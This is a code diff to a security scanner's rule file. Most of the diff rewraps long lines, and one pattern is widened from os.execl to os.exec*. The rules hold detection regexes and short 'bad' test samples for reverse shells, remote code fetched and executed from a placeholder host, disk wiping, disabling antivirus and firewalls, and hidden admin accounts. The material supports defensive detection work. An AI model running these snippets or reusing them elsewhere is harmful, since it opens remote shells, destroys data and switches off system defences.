@@ -13,18 +13,24 @@ from goobits_scanner._rules._rule import (
 )
 
 _REVERSE = (
-    r"/(?i)\b(?:bash|sh|zsh)\s+-i\b.*.dev.(?:tcp|udp).|>&?\s*.dev.(?:tcp|udp).|\b(?:nc|ncat|netcat)\b.*\s-\w*[ec]\w*\s+\S*(?:sh|cmd)"
+    r"/(?i)\b(?:bash|sh|zsh)\s+-i\b.*.dev.(?:tcp|udp).|>&?\s*.dev.(?:tcp|udp).|\b(?:nc"
+    r"|ncat|netcat)\b.*\s-\w*[ec]\w*\s+\S*(?:sh|cmd)"
     r"|mkfifo.*\b(?:nc|ncat|netcat|telnet)\b|socat\b.*exec:|openssl s_client.*\bsh\b/"
 )
 _WIPE = (
-    r"/(?i)\brm\s+(?:-\w+\s+)*-\w*(?:rf|fr)\w*\s+(?:--no-preserve-root\s+)?(?:~|.|\$HOME|.home|.etc|.usr|.var)?(?:.\*)?\s*$(?<=[\s~\/*EecrvE])"
-    r"(?<!\s\.)|\bmkfs\.\w+\s+.dev|\bdd\b.*\bof=.dev.(?:sd|hd|nvme|disk)|\bformat\s+c:|\bdel\s+.[sfq]\s.*c:\\\\?\W*$"
+    r"/(?i)\brm\s+(?:-\w+\s+)*-\w*(?:rf|fr)\w*\s+(?:--no-preserve-root\s+)?(?:~|."
+    r"|\$HOME|.home|.etc|.usr|.var)?(?:.\*)?\s*$(?<=[\s~\/*EecrvE])"
+    r"(?<!\s\.)|\bmkfs\.\w+\s+.dev|\bdd\b.*\bof=.dev.(?:sd|hd|nvme|disk)"
+    r"|\bformat\s+c:|\bdel\s+.[sfq]\s.*c:\\\\?\W*$"
     r"|vssadmin\s+delete\s+shadows|\bcipher\s+.w:|:\(\)\s*\{\s*:\|:&\s*\};:/"
 )
 _DEFENCES = (
-    r"/(?i)(?:Add|Set)-MpPreference|DisableRealtimeMonitoring|netsh\s+(?:advfirewall|firewall)\s+set.*\boff|sc\s+(?:stop|config)\s+(?:WinDefend|wscsvc|mpssvc)"
-    r"|taskkill.*(?:MsMpEng|avp|avast|mbam|defender)|setenforce\s+0|\bufw\s+disable|iptables\s+-F|csrutil\s+disable"
-    r"|spctl\s+--master-disable|bcdedit.*recoveryenabled\s+no|systemctl\s+(?:stop|disable)\s+(?:apparmor|firewalld|auditd|falcon-sensor)/"
+    r"/(?i)(?:Add|Set)-MpPreference|DisableRealtimeMonitoring|netsh\s+(?:advfirewall"
+    r"|firewall)\s+set.*\boff|sc\s+(?:stop|config)\s+(?:WinDefend|wscsvc|mpssvc)"
+    r"|taskkill.*(?:MsMpEng|avp|avast|mbam|defender)|setenforce\s+0|\bufw\s+disable"
+    r"|iptables\s+-F|csrutil\s+disable"
+    r"|spctl\s+--master-disable|bcdedit.*recoveryenabled\s+no|systemctl\s+(?:stop"
+    r"|disable)\s+(?:apparmor|firewalld|auditd|falcon-sensor)/"
 )
 
 RULES = (
@@ -46,17 +52,20 @@ RULES = (
                 f"os.system(0: {_REVERSE})",
                 f"os.popen(0: {_REVERSE})",
                 f"subprocess.*(0/args: {_REVERSE})",
-                f"os.execl(*: {_REVERSE})",
+                f"os.exec*(*: {_REVERSE})",
                 "socket.socket().send(0: ~process)",
                 "socket.socket().sendall(0: ~process)",
-                "socket.socket().send(0: ~network & <subprocess.check_output()> | <subprocess.getoutput()>)",
-                "socket.socket().send(0: <os.popen().read()> | <subprocess.getoutput()> & ~network)",
+                "socket.socket().send(0: ~network & <subprocess.check_output()> | "
+                "<subprocess.getoutput()>)",
+                "socket.socket().send(0: <os.popen().read()> | "
+                "<subprocess.getoutput()> & ~network)",
             ),
             "javascript": (
                 ".pipe(recv: ~socket; 0: ~process)",
                 ".pipe(recv: ~process; 0: ~socket)",
                 f"child_process.*(0: {_REVERSE})",
-                r"child_process.spawn(0: /(?:^|\W)(?:sh|bash|cmd|cmd\.exe|powershell|powershell\.exe)$/; 2.stdio: ~socket)",
+                r"child_process.spawn(0: /(?:^|\W)(?:sh|bash|cmd|cmd\.exe|powershell"
+                r"|powershell\.exe)$/; 2.stdio: ~socket)",
                 "net.Socket().write(0: ~process)",
                 "net.connect().write(0: ~process)",
                 "net.createConnection().write(0: ~process)",
@@ -75,16 +84,20 @@ RULES = (
         },
         bad={
             "python": (
-                "import os, socket\nhere = socket.socket()\nhere.connect(('a.invalid', 1))\n"
+                "import os, socket\nhere = socket."
+                "socket()\nhere.connect(('a.invalid', 1))\n"
                 "os.dup2(here.fileno(), 0)\n",
                 "import os\nos.system('bash -i >& /dev/tcp/a.invalid/1 0>&1')\n",
-                "import socket, subprocess\nhere = socket.create_connection(('a.invalid', 1))\n"
+                "import socket, subprocess\nhere = "
+                "socket.create_connection(('a.invalid', 1))\n"
                 "subprocess.Popen(['sh'], stdin=here, stdout=here)\n",
             ),
             "javascript": (
-                "const net = require('net');\nconst { spawn } = require('child_process');\n"
+                "const net = require('net');\nconst { spawn } = "
+                "require('child_process');\n"
                 "const shell = spawn('/bin/sh', []);\nconst here = new net.Socket();\n"
-                "here.connect(1, 'a.invalid', () => { here.pipe(shell.stdin); shell.stdout.pipe(here); });\n",
+                "here.connect(1, 'a.invalid', () => { here.pipe(shell.stdin); "
+                "shell.stdout.pipe(here); });\n",
                 "require('child_process').exec('nc -e /bin/sh a.invalid 1');\n",
             ),
             "rust": (
@@ -92,7 +105,8 @@ RULES = (
                 "use std::process::{Command, Stdio};\nfn main() {\n"
                 '    let here = TcpStream::connect("a.invalid:1").unwrap();\n'
                 "    let fd = here.as_raw_fd();\n"
-                '    Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn();\n}\n',
+                '    Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) '
+                "}).spawn();\n}\n",
             ),
         },
         good={
@@ -154,8 +168,10 @@ RULES = (
             ),
             "javascript": (
                 "const axios = require('axios');\n"
-                "async function start() { const a = await axios.get('https://a.invalid'); eval(a.data); }\n",
-                "fetch('https://a.invalid').then((a) => a.text()).then((code) => eval(code));\n",
+                "async function start() { const a = await "
+                "axios.get('https://a.invalid'); eval(a.data); }\n",
+                "fetch('https://a.invalid').then((a) => a.text()).then((code) => "
+                "eval(code));\n",
             ),
         },
         good={
@@ -164,7 +180,8 @@ RULES = (
                 "exec(open('a.py').read())\n",
             ),
             "javascript": (
-                "fetch('https://a.invalid').then((a) => a.json()).then((data) => show(data));\n",
+                "fetch('https://a.invalid').then((a) => a.json()).then((data) => "
+                "show(data));\n",
             ),
         },
     ),
@@ -212,25 +229,34 @@ RULES = (
         },
         bad={
             "python": (
-                "import os, requests\nos.system(requests.get('https://a.invalid').text)\n",
+                "import os, requests\nos.system(re"
+                "quests.get('https://a.invalid').text)\n",
                 "import socket, subprocess\nhere = socket.socket()\n"
                 "subprocess.check_output(here.recv(1024).decode(), shell=True)\n",
             ),
             "javascript": (
                 "const { exec } = require('child_process');\n"
-                "async function start() { exec(await (await fetch('https://a.invalid')).text()); }\n",
+                "async function start() { exec(await (await "
+                "fetch('https://a.invalid')).text()); }\n",
             ),
             "rust": (
                 "use std::process::Command;\nfn main() {\n"
-                '    let line = reqwest::blocking::get("https://a.invalid").unwrap().text().unwrap();\n'
+                "    let line = reqwest::blocking:"
+                ':get("https://a.invalid").unwrap().text().unwrap();\n'
                 '    Command::new("sh").arg("-c").arg(line).spawn();\n}\n',
             ),
         },
         good={
-            "python": ("import os, requests\nrequests.get('https://a.invalid')\nos.system('ls')\n",),
-            "javascript": ("require('child_process').exec('ls');\nfetch('https://a.invalid');\n",),
+            "python": (
+                "import os, requests\nrequests.get"
+                "('https://a.invalid')\nos.system('ls')\n",
+            ),
+            "javascript": (
+                "require('child_process').exec('ls');\nfetch('https://a.invalid');\n",
+            ),
             "rust": (
-                'fn main() { std::process::Command::new("sh").arg("-c").arg("ls").spawn(); }\n',
+                "fn main() { std::process::Command"
+                '::new("sh").arg("-c").arg("ls").spawn(); }\n',
             ),
         },
     ),
@@ -265,7 +291,8 @@ RULES = (
             ),
             "javascript": (
                 "const s = require('node-serialize');\n"
-                "async function start() { s.unserialize(await fetch('https://a.invalid')); }\n",
+                "async function start() { s.unserialize(await "
+                "fetch('https://a.invalid')); }\n",
             ),
         },
         good={
@@ -290,8 +317,10 @@ RULES = (
                 r"os.execv(0: /(?:^|\W)(?:ba|z|da)?sh$/)",
             ),
             "javascript": (
-                r"node-pty.spawn(0: /(?:^|\W)(?:(?:ba|z|da)?sh|cmd\.exe|powershell\.exe)$/)",
-                r"child_process.spawn(0: /^(?:.bin.(?:ba)?sh|cmd\.exe|powershell\.exe)$/; 1: absent)",
+                r"node-pty.spawn(0: /(?:^|\W)(?:(?:ba|z|da)?sh"
+                r"|cmd\.exe|powershell\.exe)$/)",
+                r"child_process.spawn(0: /^(?:.bin.(?:ba)?sh"
+                r"|cmd\.exe|powershell\.exe)$/; 1: absent)",
             ),
         },
         bad={
@@ -311,12 +340,15 @@ RULES = (
         LIKELY,
         506,
         "A process is started that nobody sees or hears",
-        "What is detached, without a window and without output is not noticed when it acts.",
+        "What is detached, without a window and without output is not noticed when it "
+        "acts.",
         "Start it where its output goes to a log.",
         {
             "python": (
-                "subprocess.*(stdin: <subprocess.DEVNULL>; stdout: <subprocess.DEVNULL>)",
-                "subprocess.*(stdout: <subprocess.DEVNULL>; stderr: <subprocess.DEVNULL>; start_new_session: true)",
+                "subprocess.*(stdin: <subprocess.DEVNULL>; stdout: "
+                "<subprocess.DEVNULL>)",
+                "subprocess.*(stdout: <subprocess.DEVNULL>; stderr: "
+                "<subprocess.DEVNULL>; start_new_session: true)",
                 "subprocess.*(creationflags: <subprocess.CREATE_NO_WINDOW>"
                 " | <subprocess.DETACHED_PROCESS> | = 134217728 | = 8)",
                 "subprocess.*(startupinfo: present; creationflags: present)",
@@ -335,7 +367,8 @@ RULES = (
                 "    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
             ),
             "javascript": (
-                "require('child_process').spawn('a', [], { detached: true, stdio: 'ignore' });\n",
+                "require('child_process').spawn('a', [], { detached: true, stdio: "
+                "'ignore' });\n",
             ),
             "rust": (
                 "use std::process::Command;\n"
@@ -346,7 +379,9 @@ RULES = (
             "python": (
                 "import subprocess\nsubprocess.run(['a'], stdout=subprocess.DEVNULL)\n",
             ),
-            "javascript": ("require('child_process').spawn('a', [], { stdio: 'inherit' });\n",),
+            "javascript": (
+                "require('child_process').spawn('a', [], { stdio: 'inherit' });\n",
+            ),
             "rust": ('fn main() { std::process::Command::new("a").spawn(); }\n',),
         },
     ),
@@ -365,7 +400,8 @@ RULES = (
                 f"os.system(0: {_WIPE})",
                 f"subprocess.*(0/args: {_WIPE})",
                 f"os.popen(0: {_WIPE})",
-                "shutil.rmtree(0/path: '/' | '~' | '/home' | '/etc' | 'C:\\\\' | <pathlib.Path.home()>)",
+                "shutil.rmtree(0/path: '/' | '~' | '/home' | '/etc' | "
+                "'C:\\\\' | <pathlib.Path.home()>)",
                 "shutil.rmtree(0/path: <os.path.expanduser()> & /^~.?$/)",
             ),
             "javascript": (
@@ -378,7 +414,8 @@ RULES = (
                 "fs.promises.rm(0: '/' | <os.homedir()>)",
             ),
             "rust": (
-                "std.fs.remove_dir_all(0: '/' | '/home' | <dirs.home_dir().unwrap()> | <home.home_dir().unwrap()>)",
+                "std.fs.remove_dir_all(0: '/' | '/home' | <dirs.home_dir().unwrap()> "
+                "| <home.home_dir().unwrap()>)",
                 f".arg(0: {_WIPE})",
             ),
         },
@@ -395,7 +432,8 @@ RULES = (
         },
         good={
             "python": (
-                "import os, shutil\nos.system('rm -rf build')\nshutil.rmtree('build')\n",
+                "import os, shutil\nos.system('rm -rf "
+                "build')\nshutil.rmtree('build')\n",
                 "import os\nos.system('rm -rf ./build/*.o')\n",
             ),
             "javascript": (
@@ -429,19 +467,22 @@ RULES = (
         },
         bad={
             "python": (
-                "import os\nos.system('powershell Add-MpPreference -ExclusionPath C:/')\n",
+                "import os\nos.system('powershell Add-MpPreference -ExclusionPath "
+                "C:/')\n",
             ),
             "javascript": ("require('child_process').exec('setenforce 0');\n",),
             "rust": (
                 "use std::process::Command;\nfn main() {\n"
-                '    Command::new("powershell").arg("Set-MpPreference -DisableRealtimeMonitoring 1").spawn();\n}\n',
+                '    Command::new("powershell").arg("Set-MpPreference '
+                '-DisableRealtimeMonitoring 1").spawn();\n}\n',
             ),
         },
         good={
             "python": ("import os\nos.system('powershell Get-Process')\n",),
             "javascript": ("require('child_process').exec('getenforce');\n",),
             "rust": (
-                'fn main() { std::process::Command::new("powershell").arg("Get-Process").spawn(); }\n',
+                "fn main() { std::process::Command"
+                '::new("powershell").arg("Get-Process").spawn(); }\n',
             ),
         },
     ),
@@ -470,7 +511,8 @@ RULES = (
                 "fs.writeFileSync(0: <__filename>)",
             ),
             "rust": (
-                "std.fs.remove_file(0: <std.env.current_exe()> | <std.env.current_exe().unwrap()>)",
+                "std.fs.remove_file(0: <std.env.current_exe()> | "
+                "<std.env.current_exe().unwrap()>)",
                 "self_replace.self_delete()",
                 "self_replace.self_delete",
             ),
@@ -498,8 +540,10 @@ RULES = (
         "Do not run it; look for accounts that nobody knows.",
         {
             language: tuple(
-                f"{call}({which}: /(?i)\\bnet\\s+user\\s+\\S+.*\\s.add|net\\s+localgroup\\s+administrators"
-                "|\\buseradd\\s+|\\badduser\\s+--|usermod\\s+-aG?\\s+(?:sudo|wheel|root)"
+                f"{call}({which}: /(?i)\\bnet\\s+user\\s+\\S+.*\\s.add"
+                f"|net\\s+localgroup\\s+administrators"
+                "|\\buseradd\\s+|\\badduser\\s+--|usermod\\s+-aG?\\s+(?:sudo|wheel"
+                "|root)"
                 "|NOPASSWD|chpasswd/)"
                 for call, which in calls
             )
@@ -515,9 +559,12 @@ RULES = (
         },
         bad={
             "python": ("import os\nos.system('net user guest2 /add')\n",),
-            "javascript": ("require('child_process').exec('useradd -o -u 0 guest2');\n",),
+            "javascript": (
+                "require('child_process').exec('useradd -o -u 0 guest2');\n",
+            ),
             "rust": (
-                'fn main() { std::process::Command::new("sh").arg("-c").arg("useradd guest2"); }\n',
+                'fn main() { std::process::Command::new("sh").arg("-c").arg("useradd '
+                'guest2"); }\n',
             ),
         },
         good={
@@ -538,7 +585,8 @@ RULES = (
         "Let it have its own name.",
         {
             "python": (
-                r"setproctitle.setproctitle(0: /(?i)^\[|kworker|svchost|systemd|sshd|cron/)",
+                r"setproctitle.setproctitle(0: /(?i)^\[|kworker|svchost|systemd|sshd"
+                r"|cron/)",
                 r".prctl(0: = 15; 1: /(?i)kworker|svchost|systemd|sshd|cron/)",
             ),
             "javascript": (
@@ -546,7 +594,9 @@ RULES = (
             ),
         },
         bad={
-            "python": ("import setproctitle\nsetproctitle.setproctitle('[kworker/0:1]')\n",),
+            "python": (
+                "import setproctitle\nsetproctitle.setproctitle('[kworker/0:1]')\n",
+            ),
             "javascript": ("process.title = 'svchost.exe';\n",),
         },
         good={
